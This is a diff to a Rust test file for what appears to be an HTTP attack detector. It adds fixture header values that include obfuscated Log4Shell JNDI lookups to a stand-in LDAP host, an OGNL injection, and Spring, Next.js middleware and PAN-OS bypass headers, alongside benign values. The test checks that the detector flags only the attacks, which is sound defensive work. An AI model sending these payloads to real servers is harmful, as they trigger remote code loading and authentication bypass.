@@ -348,6 +348,60 @@ fn where_the_status_tells_nothing_an_answer_is_none() {
     }
 }
 
+/// Fields beside those of an access log, with an attack in them, and what is none.
+const FIELDS: &[(&str, &str, bool)] = &[
+    ("x-api-version", "${${lower:j}ndi:ldap://192.0.2.1}", true),
+    ("x-forwarded-for", "${jndi:ldap://192.0.2.1}", true),
+    ("accept-language", "${jndi:ldap://192.0.2.1}", true),
+    ("origin", "${jndi:ldap://192.0.2.1}", true),
+    (
+        "content-type",
+        "%{(#_='x').(#dm=@ognl.OgnlContext@X)}",
+        true,
+    ),
+    ("spring.cloud.function.routing-expression", "T(x)", true),
+    ("x-middleware-subrequest", "middleware:middleware", true),
+    ("x-pan-authcheck", "off", true),
+    ("content-type", "multipart/form-data; boundary=x", false),
+    ("accept-language", "en-US,en;q=0.9", false),
+    ("origin", "https://a.example", false),
+    ("x-api-version", "2", false),
+];
+
+#[test]
+fn attacks_in_other_fields_are_informational() {
+    let folder = tempfile::tempdir().unwrap();
+    let file = folder.path().join("events.jsonl");
+    let events = FIELDS.iter().enumerate().map(|(client, (name, value, _))| {
+        let at = "2026-11-24T10:00:00Z";
+        format!(
+            "{{\"@timestamp\":\"{at}\",\"event\":{{\"kind\":\"event\"}},\"source\":{{\"ip\":\"198.51.0.{client}\"}},\"url\":{{\"original\":\"/\"}},\
+             \"http\":{{\"request\":{{\"method\":\"GET\",\"headers\":{{\"{name}\":[\"{value}\"]}}}},\
+             \"response\":{{\"status_code\":200}}}}}}\n"
+        )
+    });
+    std::fs::write(&file, events.collect::<String>()).unwrap();
+    let ran = crate::command::run(&["detect", "-o", "json", file.to_str().unwrap()]);
+    let alerts = crate::command::records(&ran.out);
+    for (client, (name, value, is_attack)) in FIELDS.iter().enumerate() {
+        let of = |alert: &&serde_json::Value| {
+            alert["http_trace"]["alert"]["clients"][0]["value"] == format!("198.51.0.{client}")
+        };
+        let raised = alerts.iter().filter(of);
+        let raised: Vec<_> = raised.map(|alert| &alert["rule"]["id"]).collect();
+        let case = format!("{name}: {value}: {raised:?} {}", ran.err);
+        assert_eq!(
+            raised.iter().any(|id| **id == "http-attack-attempt"),
+            *is_attack,
+            "{case}"
+        );
+        assert!(
+            !raised.iter().any(|id| **id == "http-attack-answered"),
+            "{case}"
+        );
+    }
+}
+
 #[test]
 fn several_attempts_are_medium() {
     let all: Vec<_> = TARGETS.iter().chain(SILENT).collect();
